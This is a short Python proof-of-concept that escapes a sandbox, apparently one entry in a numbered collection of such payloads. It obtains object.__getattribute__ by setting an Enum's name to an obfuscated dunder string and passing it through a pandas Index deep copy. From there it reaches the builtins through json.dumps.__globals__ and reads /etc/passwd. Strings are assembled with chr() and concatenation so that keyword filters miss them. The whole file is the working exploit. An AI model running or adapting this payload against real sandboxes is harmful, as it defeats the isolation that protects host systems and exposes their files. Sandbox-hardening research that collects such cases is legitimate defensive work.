# source: same pickle/__reduce__ family as 002; pandas Index.copy(deep=True) deep-copies its names.
#         url: https://github.com/python/cpython/issues/93889 ; https://smarttldr.pages.dev/en/topic/python-sandbox-escape-prevention/deep-dive
# family: Enum._name_ run-time string -> copy.deepcopy inside pandas (Index.copy(deep=True)) ->
#         Enum.__reduce_ex__ -> getattr(E, "__getattribute__") -> object.__getattribute__.
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd.
import enum
import json

import pandas as pd

u = chr(95) * 2
gname = u + "getattri" + "bute" + u


class E(enum.Enum):
    A = 1

    def __init__(self, v):
        self._name_ = gname


idx = pd.Index([1.0], name=E.A)
ga = idx.copy(deep=True).name
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
b = g[u + "buil" + "tins" + u]
fo = b["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
